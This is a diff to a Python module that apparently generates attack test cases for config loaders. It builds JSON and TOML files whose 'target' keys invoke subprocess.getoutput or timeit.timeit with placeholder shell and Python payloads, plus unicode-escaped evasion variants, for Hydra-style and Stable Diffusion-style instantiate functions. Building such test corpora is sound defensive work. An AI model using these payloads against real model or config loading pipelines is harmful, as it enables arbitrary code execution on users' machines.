@@ -66,20 +66,24 @@ def logs():
         yield Attack('logging.json', json.dumps(config).encode('utf-16'), loader='import logging.config, json; logging.config.dictConfig(json.loads(open(path, "rb").read()))')
 
 
-@kind('hydra: kinds of text')
-def hydra():
-    # Hydra itself refuses os.system and its like.
-    target = {'_target_': 'pydoc.pipepager', 'text': '', 'cmd': SHELL}
-    instantiate = 'import hydra.utils, json, sys\nc = {}; hydra.utils.instantiate(c)'
-    nested = {'model': {'layers': [{'a': 1}, target]}}
-    called = {'_target_': 'timeit.timeit', 'stmt': PYTHON, 'number': 1}
-    for config in (target, nested, called, {'x': {'y': {'_target_': 'cProfile.run', 'statement': PYTHON}}}):
+@kind('objects: kinds of text that name them')
+def objects():
+    # What Stable Diffusion's instantiate_from_config does (ldm/util.py). Hydra of today refuses the standard library.
+    build = """import importlib
+def build(config):
+    if isinstance(config, dict) and 'target' in config:
+        module, name = config['target'].rsplit('.', 1)
+        getattr(importlib.import_module(module), name)(**config.get('params', {}))
+    for value in config.values() if isinstance(config, dict) else config if isinstance(config, list) else []:
+        build(value)
+"""
+    target = {'target': 'subprocess.getoutput', 'params': {'cmd': SHELL}}
+    for config in (target, {'model': {'layers': [{'a': 1}, target]}}, {'x': {'target': 'timeit.timeit', 'params': {'stmt': PYTHON, 'number': 1}}}):
         text = json.dumps(config)
-        for name in ('c.json', 'c.txt', 'c', 'c.jsonl', 'c.model', 'c.settings', 'c.meta'):
-            yield Attack(name, text.encode(), loader=instantiate.format('json.loads(open(path, "rb").read())'))
-            yield Attack(name, text.encode('utf-16'), loader=instantiate.format('json.loads(open(path, "rb").read())'))
-        yield Attack('c.json', text.replace('_target_', '\\u005ftarget\\u005f').encode(), loader=instantiate.format('json.load(open(path))'))
-    for quoted in ('"_target_"', '_target_', '"\\u005ftarget_"', "'_target_'"):
-        for name in ('c.toml', 'c.tml', 'c.conf'):
-            yield Attack(name, f"[m]\n{quoted} = 'pydoc.pipepager'\ntext = ''\ncmd = '{SHELL}'\n".encode(), loader=instantiate.format('__import__("tomllib").load(open(path, "rb"))'))
-            yield Attack(name, f"m.{quoted} = 'pydoc.pipepager'\nm.text = ''\nm.cmd = '{SHELL}'\n".encode(), loader=instantiate.format('__import__("tomllib").load(open(path, "rb"))'))
+        for name in ('c.json', 'c.txt', 'c', 'c.jsonl', 'c.model'):
+            yield Attack(name, text.encode(), loader=build + 'import json\nbuild(json.loads(open(path, "rb").read()))')
+            yield Attack(name, text.encode('utf-16'), loader=build + 'import json\nbuild(json.loads(open(path, "rb").read()))')
+        yield Attack('c.json', text.replace('target', '\\u0074arget').encode(), loader=build + 'import json\nbuild(json.load(open(path)))')
+    for quoted in ('"target"', 'target', '"\\u0074arget"', "'target'"):
+        for shape in (f"[m]\n{quoted} = 'subprocess.getoutput'\nparams.cmd = '{SHELL}'\n", f"m.{quoted} = 'subprocess.getoutput'\nm.params = {{cmd = '{SHELL}'}}\n"):
+            yield Attack('c.toml', shape.encode(), loader=build + 'import tomllib\nbuild(tomllib.load(open(path, "rb")))')
